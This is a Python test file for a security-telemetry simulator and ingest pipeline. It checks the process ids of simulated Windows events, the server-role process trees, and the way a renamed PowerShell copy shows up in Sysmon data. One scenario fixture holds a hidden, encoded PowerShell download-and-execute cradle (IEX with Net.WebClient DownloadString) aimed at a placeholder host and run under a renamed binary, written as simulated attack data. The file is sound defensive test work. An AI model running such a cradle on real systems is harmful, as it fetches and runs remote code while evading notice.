"""Simulator fidelity where the ingest's joins depend on it (task F31).

* A PowerShell 4104 is written by the PowerShell process whose engine ran the block, so its
  execution pid (``winlog.process.pid`` / NXLog ``ExecutionProcessID``) is that process's pid; a
  Security event's is LSASS's, a Service Control Manager event's services.exe's.  The ingest ties
  a script block to its process through that pid, so after ingest a simulated script must be
  EXECUTED by a PowerShell process (with one made-up pid per host it went to whatever process
  last held that pid: a RuntimeBroker.exe).
* A server-role host has no interactive logon: a step with no process of its run is not
  started by an explorer.exe there.
* A renamed copy of a LOLBin is the same file: Sysmon reports the original's hashes and PE
  ``OriginalFileName`` under the new image path.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from graphsiem.model import RelationType
from graphsiem.simulator import simulate
from graphsiem.store.embedded import EmbeddedStore
from ingest.journal import Journal
from ingest.pipeline import ingest_paths
from tests.graphsiem.simulator.conftest import event_data, event_id, read_ndjson

POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


def _scenario(name: str, group: str, activities: str) -> str:
    """A scenario's YAML: ``activities`` on every host of ``group``."""
    return (f"name: {name}\nlabel: {name}\nkind: attack\nhosts: {{group: {group}, fraction: 1.0}}\n"
            f"pivot: {{type: domain}}\nactivities:\n{activities}")


# steps with no process of their own: a user's connection and process, a SYSTEM process
ROLE_SCENARIO = _scenario("fidelity_roles", "any", """\
  - schedule: {every: once, day: last, at: "11:00", spread_minutes: 5}
    steps:
      - {action: connect, domain: fidelity-check.example, port: 443}
      - action: process
        image: 'C:\\Users\\{{user}}\\AppData\\Local\\Temp\\check.exe'
        command_line: 'check.exe /quiet'
  - schedule: {every: once, day: last, at: "11:30", spread_minutes: 5}
    steps:
      - action: process
        user: system
        image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
        command_line: 'powershell.exe -NoProfile -Command Get-Date'
""")
# a renamed copy of powershell.exe, then the real one
COPY_SCENARIO = _scenario("fidelity_copy", "workstations", """\
  - schedule: {every: once, day: last, at: "11:00", spread_minutes: 5}
    steps:
      - action: process
        parent: explorer
        image: 'C:\\Users\\{{user}}\\AppData\\Local\\Temp\\{{user}}svc.exe'
        copy_of: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
        command_line: '{{user}}svc.exe -nop -w hidden -enc {{encoded}}'
        encoded_command: "IEX (New-Object Net.WebClient).DownloadString('http://fidelity-check.example/a')"
      - {action: script_block, text: "Invoke-FidelityCheck -Renamed"}
      - action: process
        parent: explorer
        image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
        command_line: 'powershell.exe -NoProfile -Command Get-Date'
""")


def _host(collector: str, record: dict) -> str:
    return (record["host"]["name"] if collector == "winlogbeat" else record["Hostname"].split(".")[0]).lower()


def _writer_pid(collector: str, record: dict) -> int:
    return int(record["winlog"]["process"]["pid"] if collector == "winlogbeat" else record["ExecutionProcessID"])


def _created(records) -> dict[tuple[str, int], list[dict]]:
    """(host, pid) -> the Sysmon 1 event data of every process created with that pid."""
    created: dict[tuple[str, int], list[dict]] = {}
    for collector, record in records:
        if event_id(collector, record) == 1:
            data = event_data(collector, record)
            created.setdefault((_host(collector, record), int(data["ProcessId"])), []).append(data)
    return created


def _is_powershell(data: dict) -> bool:
    # a renamed copy is still PowerShell: its PE OriginalFileName says so, whatever the image's name
    return data["OriginalFileName"] == "PowerShell.EXE"


def _simulate(root: Path, name: str, text: str) -> tuple[list[tuple[str, dict]], dict[str, str]]:
    """``(endpoint records, host -> group)`` of the scenario ``text`` alone on a 30-host fleet."""
    scenario = root / f"{name}.yaml"
    scenario.write_text(text, encoding="utf-8")
    out = root / name
    simulate(out, hosts=30, days=1, seed=4, scenarios=[str(scenario)])
    records = [(path.name.split("-", 1)[0], record)
               for path in sorted((out / "endpoint").glob("*.ndjson")) for record in read_ndjson(path)]
    truth = json.loads((out / "ground_truth.json").read_text(encoding="utf-8"))
    return records, {h["host"].lower(): h["group"] for h in truth["fleet"]}


@pytest.fixture(scope="module")
def role_run(tmp_path_factory):
    return _simulate(tmp_path_factory.mktemp("fidelity"), "fidelity_roles", ROLE_SCENARIO)


@pytest.fixture(scope="module")
def copy_run(tmp_path_factory):
    return _simulate(tmp_path_factory.mktemp("fidelity"), "fidelity_copy", COPY_SCENARIO)


def test_script_blocks_carry_the_pid_of_the_powershell_that_ran_them(endpoint_records):
    created = _created(endpoint_records)
    blocks = [(collector, record) for collector, record in endpoint_records if event_id(collector, record) == 4104]
    assert len(blocks) > 50
    for collector, record in blocks:
        key = (_host(collector, record), _writer_pid(collector, record))
        runners = [data for data in created.get(key, []) if _is_powershell(data)]
        assert runners, (key, event_data(collector, record)["ScriptBlockText"][:80])


def test_security_and_service_control_manager_events_name_lsass_and_services(endpoint_records):
    lsass: dict[str, int] = {}
    services: dict[str, int] = {}
    for collector, record in endpoint_records:
        data = event_data(collector, record)
        if event_id(collector, record) == 10 and data["TargetImage"].lower().endswith("\\lsass.exe"):
            lsass[_host(collector, record)] = int(data["TargetProcessId"])
        if event_id(collector, record) == 1 and data["ParentImage"].lower().endswith("\\services.exe"):
            services[_host(collector, record)] = int(data["ParentProcessId"])
    checked = {"lsass": 0, "services": 0}
    for collector, record in endpoint_records:
        host, code = _host(collector, record), event_id(collector, record)
        if code in (4624, 4697, 4698, 4702) and host in lsass:
            assert _writer_pid(collector, record) == lsass[host], (host, code)
            checked["lsass"] += 1
        if code == 7045 and host in services:
            assert _writer_pid(collector, record) == services[host], (host, code)
            checked["services"] += 1
    assert checked["lsass"] > 0 and checked["services"] > 0


def test_no_explorer_on_server_role_hosts(role_run):
    records, groups = role_run
    acting = {"servers": set(), "workstations": set()}
    for collector, record in records:
        code = event_id(collector, record)
        if code not in (1, 3, 22):
            continue
        data = event_data(collector, record)
        group = "servers" if groups[_host(collector, record)] == "servers" else "workstations"
        acting[group].add(data["Image"].rsplit("\\", 1)[-1].lower())
        if code == 1:
            acting[group].add(data["ParentImage"].rsplit("\\", 1)[-1].lower())
    assert "explorer.exe" not in acting["servers"]
    # with no process of its run, a server's user step acts as the Task Scheduler's svchost.exe
    # and a SYSTEM process is started by services.exe
    assert {"svchost.exe", "services.exe"} <= acting["servers"]
    assert "explorer.exe" in acting["workstations"]


def test_a_renamed_lolbin_keeps_the_originals_hashes_and_original_file_name(copy_run):
    records, _ = copy_run
    created = _created(records)
    copies = [d for ds in created.values() for d in ds if d["Image"].lower().endswith("svc.exe")]
    originals = [d for ds in created.values() for d in ds if d["Image"] == POWERSHELL]
    assert copies and originals
    for copy in copies:
        assert copy["OriginalFileName"] == "PowerShell.EXE"
        assert (copy["Description"], copy["Company"], copy["FileVersion"]) == (
            originals[0]["Description"], originals[0]["Company"], originals[0]["FileVersion"])
        assert copy["Hashes"] == originals[0]["Hashes"]
    # the copy's script blocks are its own: the pid the copy was created with
    blocks = [(c, r) for c, r in records if event_id(c, r) == 4104
              and event_data(c, r)["ScriptBlockText"] == "Invoke-FidelityCheck -Renamed"]
    assert len(blocks) == len(copies)
    for collector, record in blocks:
        key = (_host(collector, record), _writer_pid(collector, record))
        assert any(d["Image"].lower().endswith("svc.exe") for d in created.get(key, [])), key


def test_after_ingest_a_script_is_executed_by_powershell(small_run, truth, tmp_path):
    out, _ = small_run
    store = EmbeddedStore(tmp_path / "graph")
    try:
        with Journal(tmp_path / "journal.sqlite") as journal:
            ingest_paths([out / "endpoint"], store=store, journal=journal, progress=False)
        scripts = {entity.ref for entity in store.iter_entities("script")}
        runners: dict[tuple[str, str], set[str]] = {}
        for relation in store.iter_relations(RelationType.EXECUTED):
            if relation.dst in scripts and relation.src[0] == "process":
                runners.setdefault(relation.dst, set()).add(relation.src[1])
        seed_texts = [" ".join(i["value"].split()) for s in truth["scenarios"] if s["name"] == "seed_campaign"
                      for i in s["indicators"] if i["type"] == "script"]
        assert seed_texts and scripts
        for script, processes in runners.items():
            for key in processes:
                entity = store.get_entity("process", key)
                assert entity is not None
                image = str(entity.props.get("image") or entity.value).lower()
                assert "powershell" in image and "runtimebroker" not in image, (script, entity.value[:120])
        seed_scripts = [ref for ref in scripts
                        if " ".join(str(store.get_entity(*ref).props.get("text", "")).split()) in seed_texts]
        assert seed_scripts and all(runners.get(ref) for ref in seed_scripts)
    finally:
        store.close()
